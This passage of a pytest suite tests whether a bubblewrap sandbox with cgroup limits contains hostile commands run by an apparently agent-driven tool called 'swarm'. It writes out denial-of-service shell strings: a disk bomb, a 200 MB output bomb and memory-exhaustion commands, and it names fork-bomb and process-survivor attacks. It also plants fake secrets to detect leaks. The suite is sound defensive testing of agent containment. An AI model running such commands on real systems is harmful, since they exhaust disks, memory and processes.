    return "BOMB-DONE" in out or grown > 4 * DISK_MB or f"disk quota of {DISK_MB} MB" not in out


ATTACKS.append(
    Attack(
        "run-disk-bomb",
        run(
            lambda _w: (
                "for i in $(seq 100); do head -c 4M /dev/zero > bomb-$i; done; echo BOMB-DONE"
            )
        ),
        _disk_bomb_stopped,
        True,
        host_danger=True,  # unconfined it writes 400 MB to the host's disk
    )
)
ATTACKS.append(Attack("hooks-run-move-refs-and-head", *_hook_runs_worktree_file(), True))
ATTACKS.append(
    Attack(
        "run-output-bomb",
        run(lambda _w: "head -c 200M /dev/zero | tr '\\0' x; echo"),
        lambda _w, out: (
            len(out) > 25_000 or ("characters cut" not in out and "bytes cut" not in out)
        ),
        False,  # the output is cut in the middle, sandbox or not
    )
)
MEMORY = ("run-memory-shared-mapping", "run-memory-many-processes", "run-memory-dev-shm-and-tmp")
"""The attacks a memory cgroup stops, where one can be made; elsewhere swarm's own count of
what the command holds (`swarm._sandbox._memory`)."""


def test_the_suite_has_at_least_thirty_attacks() -> None:
    assert len(ATTACKS) >= 30
    assert len({a.id for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("kind", ["bwrap", "none"])
@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
async def test_attack(
    attack: Attack, kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if kind == "bwrap" and NO_BWRAP:
        pytest.skip(f"bubblewrap cannot run here: {NO_BWRAP}")
    if kind == "none" and attack.host_danger:
        pytest.skip("unconfined, this would harm the machine for real (it succeeds)")
    monkeypatch.setenv("OPENAI_API_KEY", SECRETS["env"])  # swarm's own environment
    for name, value in UNNAMED_SECRETS.items():
        monkeypatch.setenv(name, value)
    async with world(tmp_path, kind) as w:
        output, escaped, own_filesystem = await _carried_out(attack, w)
    if kind == "bwrap":
        assert not escaped, f"{attack.id} escaped the bwrap sandbox:\n{output}"
    else:
        expected = attack.none_escapes
        if expected == "on-the-host-fs":
            expected = not own_filesystem
        assert escaped == expected, f"{attack.id} under none:\n{output}"


async def _carried_out(attack: Attack, w: World) -> tuple[str, bool, bool]:
    """`attack` on `w`: its output, whether it escaped, whether the worktree is a
    filesystem of its own."""
    with anyio.fail_after(60):
        output = await attack.perform(w)
    await anyio.sleep(0.2)  # let a straggler show itself
    return output, attack.escaped(w, output), w.mine.volume


@pytest.mark.parametrize(
    "attack", [a for a in ATTACKS if a.id in MEMORY], ids=[a.id for a in ATTACKS if a.id in MEMORY]
)
async def test_memory_attack_without_a_memory_cgroup(attack: Attack, tmp_path: Path) -> None:
    """What a normal user whose cgroup delegates nothing gets (`cgroups = false` here, so
    that root, too, runs it): swarm adds the command's memory up and kills it past the
    limit, and /tmp and /dev/shm are sized to fit in it; each says so."""
    if NO_BWRAP:
        pytest.skip(f"bubblewrap cannot run here: {NO_BWRAP}")
    async with world(tmp_path, "bwrap", cgroups=False) as w:
        output, escaped, _ = await _carried_out(attack, w)
    assert not escaped, f"{attack.id} escaped the bwrap sandbox without cgroups:\n{output}"
    if attack.id == "run-memory-dev-shm-and-tmp":  # files: the kernel, by the tmpfs sizes
        assert "sized to fit the command's memory limit of 256 MB" in output
    else:  # processes: swarm's count
        assert "swarm killed it" in output


async def test_without_a_memory_cgroup_a_command_under_the_limit_runs_on(tmp_path: Path) -> None:
    """The count is not a false alarm: 150 MB in two processes and 40 MB in /tmp, under the
    256 MB limit, held for a while as the guard looks again and again."""
    if NO_BWRAP:
        pytest.skip(f"bubblewrap cannot run here: {NO_BWRAP}")
    command = (
        "head -c 40M /dev/zero > /tmp/f; "
        'for i in 1 2; do python -c "b = bytearray(75 << 20); import time; time.sleep(1)" & '
        "done; wait; echo STILL-HERE"
    )
    async with world(tmp_path, "bwrap", cgroups=False) as w:
        output = await run(lambda _w: command)(w)
    assert "STILL-HERE" in output and "memory limit" not in output, output


SERVED = ("run-fork-bomb", "run-too-many-processes", "run-setsid-survivor", "check-setsid-survivor")
"""The attacks on process containment, again as a solve runs commands: through its spawn
server (the server, not swarm, is their parent), in the sandbox's session (each command in
a launcher already in its pids cgroup, `swarm._sandbox._seats`)."""


@pytest.mark.parametrize(
    "attack", [a for a in ATTACKS if a.id in SERVED], ids=[a.id for a in ATTACKS if a.id in SERVED]
)
async def test_attack_through_the_spawn_server(attack: Attack, tmp_path: Path) -> None:
    if NO_BWRAP:
        pytest.skip(f"bubblewrap cannot run here: {NO_BWRAP}")
    async with _spawner.spawn_server() as server, world(tmp_path, "bwrap") as w:
        assert server is not None and _spawner.current() is server  # its commands go there
        async with w.env.sandbox.session():  # its commands start in seats, as in a solve
            with anyio.fail_after(60):
                output = await attack.perform(w)
            await anyio.sleep(0.2)
            assert not attack.escaped(w, output), f"{attack.id} escaped:\n{output}"
